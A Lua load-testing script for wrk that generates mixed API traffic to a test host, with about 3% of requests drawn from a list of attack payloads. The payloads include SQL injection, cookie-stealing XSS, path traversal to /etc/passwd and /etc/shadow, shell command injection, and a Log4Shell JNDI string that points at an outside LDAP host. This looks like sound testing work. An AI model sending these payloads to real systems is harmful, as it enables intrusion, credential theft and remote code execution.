-- scripts/bench: varied API traffic for wrk, with a few percent attack-like
-- requests (SQL injection, XSS, path traversal, Log4Shell user agent).
local thread_id = 0
function setup(thread)
  thread_id = thread_id + 1
  thread:set("seed", thread_id)
end

function init(args)
  math.randomseed(7919 * (seed or 1))
end

local agents = {
  "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
  "okhttp/4.12.0",
  "python-requests/2.32.3",
  "curl/8.8.0",
}
local words = { "shoes", "red+shirt", "laptop", "coffee%20beans", "usb-c", "book", "garden+hose", "phone" }
local statics = { "/static/app.js", "/static/style.css", "/static/logo.png", "/static/data.json" }
local attacks = {
  { "GET", "/search?q=1%27%20OR%20%271%27%3D%271", nil },
  { "GET", "/api/users/1%20UNION%20SELECT%20username,password%20FROM%20users--", nil },
  { "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", nil },
  { "GET", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", nil },
  { "GET", "/static/..%2f..%2f..%2fetc%2fpasswd", nil },
  { "GET", "/api/orders?page=../../../../etc/shadow", nil },
  { "GET", "/health", "${jndi:ldap://203.0.113.9:1389/Exploit}" },
  { "POST", "/api/login", nil, '{"user":"admin\' --","password":"x"}' },
  { "GET", "/admin/config.php?cmd=;cat%20/etc/passwd", nil },
}

local function pick(t) return t[math.random(#t)] end

request = function()
  local headers = {
    ["Host"] = "api.bench.test",
    ["User-Agent"] = pick(agents),
    ["Accept"] = "application/json",
  }
  local r = math.random(1000)
  if r <= 30 then
    local a = pick(attacks)
    if a[3] then headers["User-Agent"] = a[3] end
    if a[4] then headers["Content-Type"] = "application/json" end
    return wrk.format(a[1], a[2], headers, a[4])
  elseif r <= 380 then
    return wrk.format("GET", "/api/users/" .. math.random(1, 99999), headers)
  elseif r <= 520 then
    return wrk.format("GET", "/api/users/" .. math.random(1, 9999) .. "/orders?page=" .. math.random(1, 20), headers)
  elseif r <= 680 then
    return wrk.format("GET", "/api/orders?page=" .. math.random(1, 500) .. "&per_page=" .. pick({ 10, 25, 50 }), headers)
  elseif r <= 780 then
    headers["Content-Type"] = "application/json"
    local body = string.format('{"user_id":%d,"items":[{"sku":"A-%d","qty":%d},{"sku":"B-%d","qty":1}],"note":"%s"}',
      math.random(1, 99999), math.random(1, 999), math.random(1, 5), math.random(1, 999), pick(words))
    return wrk.format("POST", "/api/orders", headers, body)
  elseif r <= 820 then
    headers["Content-Type"] = "application/json"
    local body = string.format('{"user":"user%d@example.com","password":"pw-%d"}', math.random(1, 99999), math.random(1, 1e6))
    return wrk.format("POST", "/api/login", headers, body)
  elseif r <= 900 then
    return wrk.format("GET", "/search?q=" .. pick(words) .. "&page=" .. math.random(1, 5), headers)
  elseif r <= 960 then
    headers["Accept"] = "*/*"
    return wrk.format("GET", pick(statics), headers)
  elseif r <= 980 then
    return wrk.format("GET", "/api/products/" .. math.random(1, 9999), headers)
  else
    return wrk.format("GET", "/health", headers)
  end
end
